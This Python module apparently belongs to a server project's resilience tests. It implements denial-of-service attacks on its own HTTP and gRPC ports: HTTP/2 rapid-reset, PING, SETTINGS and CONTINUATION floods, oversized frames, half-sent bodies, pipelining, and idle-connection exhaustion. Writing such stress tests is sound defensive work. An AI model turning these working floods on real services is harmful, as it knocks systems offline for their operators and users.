"""Attacks of anonymous clients with connections: floods, half requests, idle connections."""

import struct
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from scripts.attacks.target import Attack, Target, connected, over_and_over

_MOST_OPEN = 1100
_HEALTH = b"/grpc.health.v1.Health/Check"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _, _PING, _, _WINDOW, _CONTINUATION = range(10)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header in HPACK, neither indexed nor compressed."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
_CALL = b"\x83\x86" + _literal(b":path", _HEALTH) + _literal(b"content-type", b"application/grpc")
_CALL += _literal(b"te", b"trailers")


def _flood(one: Callable[[int], bytes], *, read: bool = False) -> Attack:
    """Send a thousand frames at a time, behind an open call."""
    data = _PREFACE + _frame(_HEADERS, 4, 1, _CALL) + b"".join(one(3 + 2 * number) for number in range(1000))

    def attack(target: Target) -> None:
        over_and_over(target.otlp_port, data, target, read=read)

    return attack


def rapid_reset(target: Target) -> None:
    """Open calls and reset them at once."""
    _flood(lambda stream: _frame(_HEADERS, 4, stream, _CALL) + _frame(_RESET, 0, stream, bytes(4)))(target)


def half_messages(target: Target) -> None:
    """Health checks whose message does not end, up to the window of the connection."""
    calls = b"".join(
        _frame(_HEADERS, 4, s, _CALL) + _frame(_DATA, 0, s, struct.pack(">BI", 0, 4 << 20)) for s in (1, 3)
    )
    data = _PREFACE + calls + b"".join(_frame(_DATA, 0, s, bytes(15_000)) for s in (1, 3) * 2)
    over_and_over(target.otlp_port, data, target)


def half_posts(target: Target) -> None:
    """Large anonymous bodies that break off."""
    head = (
        b"POST /users HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n"
    )
    over_and_over(target.http_port, head + bytes(1_000_000), target)


def pipeline(target: Target) -> None:
    """Thousands of requests at once on a connection that reads the answers."""
    with ExitStack() as stack:
        connection = stack.enter_context(connected(target.http_port))
        while target.goes_on():
            connection.sendall(b"GET /nope HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500)
            connection.recv(1 << 20)


def well_behaved(target: Target) -> None:
    """Requests of one client, each sent when the one before was answered: what attacks are compared with."""
    request = b"GET /nope HTTP/1.1\r\nHost: localhost\r\n\r\n"
    while target.goes_on():
        with connected(target.http_port) as connection:
            while target.goes_on():
                connection.sendall(request)
                if not connection.recv(1 << 16):
                    break


def idle(target: Target) -> None:
    """Idle connections, more than the usual limit of file descriptors."""
    with ExitStack() as stack:
        with suppress(OSError):
            for number in range(_MOST_OPEN):
                stack.enter_context(connected((target.http_port, target.otlp_port)[number % 2]))
        while target.goes_on():
            time.sleep(0.1)


ATTACKS: dict[str, Attack] = {
    "rapid-reset": rapid_reset,
    "ping": _flood(lambda _: _frame(_PING, 0, 0, bytes(8)), read=True),
    "ping-unread": _flood(lambda _: _frame(_PING, 0, 0, bytes(8))),
    "settings": _flood(lambda _: _frame(_SETTINGS, 0, 0), read=True),
    "settings-unread": _flood(lambda _: _frame(_SETTINGS, 0, 0)),
    "empty-data": _flood(lambda _: _frame(_DATA, 0, 1)),
    "window-updates": _flood(lambda _: _frame(_WINDOW, 0, 0, struct.pack(">I", 1))),
    "priorities": _flood(lambda stream: _frame(_PRIORITY, 0, stream, bytes(5))),
    "continuation": _flood(lambda stream: _frame(_HEADERS if stream == 3 else _CONTINUATION, 0, 3)),
    "large-frame": _flood(lambda stream: struct.pack(">IBI", (2**24 - 1) << 8, 0, 1) if stream == 3 else bytes(9)),
    "half-messages": half_messages,
    "half-posts": half_posts,
    "pipeline": pipeline,
    "idle": idle,
}
